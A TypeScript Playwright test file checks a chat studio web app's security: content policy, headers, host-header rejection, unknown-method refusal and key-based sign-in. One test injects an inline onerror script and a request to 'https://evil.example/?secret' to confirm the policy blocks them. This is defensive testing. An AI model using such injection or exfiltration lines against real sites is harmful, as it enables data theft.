import { spawn } from 'node:child_process'
import { request as http } from 'node:http'
import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'
import { KEY, KEYED, PORT } from './ports'
import { Studio } from './studio'

/** Collects what the page's policy keeps it from doing. */
async function watch(page: Page): Promise<string[]> {
  const found: string[] = []
  await page.exposeFunction('violated', (what: string) => void found.push(what))
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective, blockedURI, sample, sourceFile }) =>
        (window as unknown as { violated(what: string): void }).violated(
          `${effectiveDirective} ${blockedURI} ${sample} ${sourceFile}`,
        ),
    )
  })
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) found.push(message.text())
  })
  return found
}

test.describe('the policy that browsers hold pages to', () => {
  test('keeps the studio from nothing that it does', async ({ page }) => {
    const violations = await watch(page)
    const studio = new Studio(page)
    await studio.open()
    await studio.ask('Tell me about Tokyo.')
    await studio.steer('pirate', 'Talks like a pirate', 0.5)
    await studio.keepSteered.click()
    await studio.edits()
    await page.getByRole('button', { name: 'Settings' }).click()
    await page.getByRole('radio', { name: 'Night' }).click()
    await expect(page.locator('html')).toHaveClass(/dark/)
    await page.keyboard.press('Escape')
    await page.setViewportSize({ width: 390, height: 800 })
    await page.getByRole('button', { name: 'Features' }).click()
    await expect(page.getByRole('dialog', { name: 'Features' })).toBeVisible()
    expect(violations).toEqual([])
  })

  test('keeps the reference from nothing that it does', async ({ page }) => {
    const violations = await watch(page)
    await page.goto('/reference')
    await page.locator('[data-path="/api/v1/health"]').click()
    await page.getByRole('button', { name: 'Execute' }).click()
    await expect(page.locator('.live-responses-table')).toContainText('"status": "ok"')
    expect(violations).toEqual([])
  })

  test('lets no other script run, and nothing be sent elsewhere', async ({ page }) => {
    const violations = await watch(page)
    const answer = (await page.goto('/'))!
    expect(answer.headers()).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
      'content-security-policy': expect.stringMatching(/script-src .*'nonce-\w{32}'.*frame-ancestors 'none'/),
    })
    await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.ran = true">')
      new Image().src = 'https://evil.example/?secret'
    })
    await expect.poll(() => violations.join('\n')).toContain('img-src https://evil.example')
    expect(violations.join('\n')).toContain('script-src-attr inline')
    expect(await page.evaluate(() => (window as unknown as { ran?: boolean }).ran)).toBeUndefined()
  })
})

test('a name that its owner points here is not served', async () => {
  const statuses = await Promise.all(
    ['/', '/api/v1/health', '/v1/models', '/_next/image?url=%2Fscreenshot.png&w=64&q=75'].map(
      (path) =>
        new Promise((resolve, reject) => {
          const headers = { host: 'evil.example' }
          const call = http({ host: '127.0.0.1', port: PORT, path, headers }, ({ statusCode }) =>
            resolve(statusCode),
          )
          call.on('error', reject).end()
        }),
    ),
  )
  expect(statuses).toEqual([421, 421, 421, 421])
})

test('methods that nobody knows are refused in the words of each protocol', async () => {
  const ask = (method: string, path: string) =>
    new Promise<[number | undefined, string]>((resolve, reject) => {
      const call = http({ host: '127.0.0.1', port: PORT, path, method }, (answer) => {
        let text = ''
        answer.on('data', (chunk: Buffer) => (text += chunk.toString()))
        answer.on('end', () => resolve([answer.statusCode, text]))
      })
      call.on('error', reject).end()
    })
  for (const method of ['TRACE', 'PROPFIND', 'PURGE'])
    for (const [path, word] of [
      ['/', '"method_not_allowed"'],
      ['/livez', '"method_not_allowed"'],
      ['/api/v1/health', '"code":"method_not_allowed"'],
      ['/v1/models', '"type":"invalid_request_error"'],
      ['/api/inference/v1/features/search', '"detail":'],
    ] as const)
      expect(await ask(method, path)).toEqual([405, expect.stringContaining(word)])
})

test.describe('where the server has keys', () => {
  test.use({ baseURL: KEYED })

  test('people sign in with one, and out again', async ({ page }) => {
    const violations = await watch(page)
    await page.goto('/reference')
    await expect(page).toHaveURL(`${KEYED}/signin?from=%2Freference`)
    await page.goto('/')
    await expect(page).toHaveURL(`${KEYED}/signin`)
    await page.getByLabel('Key').fill('not the key')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await expect(page.getByRole('main').getByRole('alert')).toContainText('This key does not fit')
    await page.getByLabel('Key').fill(KEY)
    await page.getByRole('button', { name: 'Sign in' }).click()
    const studio = new Studio(page)
    await expect(studio.message).toBeEditable()
    expect(await studio.ask('Tell me about cats.')).not.toBe('')
    // That the page's fonts are there is all that scripts may know from cookies.
    expect(await page.evaluate(() => document.cookie)).toMatch(/^(?:tiller-fonts=1)?$/)
    await studio.message.fill('half a secret')
    const kept = () => page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]))
    expect(await kept()).toMatch(/cats.*half a secret/)
    const other = new Studio(await page.context().newPage())
    await other.page.goto(KEYED)
    await expect(other.message).toBeEditable()
    await page.getByRole('button', { name: 'Settings' }).click()
    await expect(page.getByText('Signed in as anna')).toBeVisible()
    await page.getByRole('button', { name: 'Sign out' }).click()
    await expect(page).toHaveURL(`${KEYED}/signin`)
    await expect(other.page).toHaveURL(`${KEYED}/signin`)
    expect(await kept()).not.toMatch(/cats|secret|tiller\./)
    await other.page.close()
    expect((await page.request.get('/api/v1/health')).status()).toBe(401)
    expect(violations).toEqual([])
  })

  test('programs send one', async ({ request }) => {
    const headers = { authorization: `Bearer ${KEY}` }
    expect((await request.get('/v1/models')).status()).toBe(401)
    expect((await request.get('/v1/models', { headers })).status()).toBe(200)
    expect((await request.get('/livez')).status()).toBe(200)
    await expect.poll(async () => (await request.get('/readyz')).status()).toBe(200)
  })
})

test.describe('npm start', () => {
  const start = (env: Record<string, string>) => {
    const server = spawn('npm', ['start'], {
      shell: process.platform === 'win32',
      env: { ...process.env, LOG_LEVEL: 'silent', TILLER_MODELS_DIR: 'test-results/no-models', ...env },
    })
    const said = { out: '', err: '' }
    server.stdout.on('data', (chunk: Buffer) => (said.out += chunk.toString()))
    server.stderr.on('data', (chunk: Buffer) => (said.err += chunk.toString()))
    const code = new Promise<number | null>((resolve) => server.once('close', resolve))
    return { server, said, code }
  }

  test('ends with exit code 0 once what it was saying is said', async () => {
    const { server, said, code } = start({ PORT: String(PORT + 2) })
    await expect.poll(() => said.out).toContain(`http://localhost:${PORT + 2}`)
    const asked = {
      session_id: 'default_session',
      messages: [{ role: 'user', content: 'Tell me about Tokyo.' }],
    }
    const answer = await fetch(`http://127.0.0.1:${PORT + 2}/api/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ...asked, max_completion_tokens: 60 }),
    })
    server.kill('SIGTERM')
    expect(await answer.text()).toMatch(/"type":"done".*\n\n$/)
    expect(await code).toBe(0)
  })

  test('does not start for other machines without keys, nor with variables that it does not know', async () => {
    const open = start({ PORT: String(PORT + 2), HOST: '0.0.0.0' })
    expect(await open.code).toBe(1)
    expect(open.said.err).toContain('npm run keys -- add NAME')
    const misspelt = start({ PORT: String(PORT + 2), TILLER_MODEL_DIR: 'x', TRUST_PROXY: 'yes' })
    expect(await misspelt.code).toBe(1)
    expect(misspelt.said.err.match(/^(TILLER_MODEL_DIR|TRUST_PROXY): .*$/gm)).toHaveLength(2)
  })
})
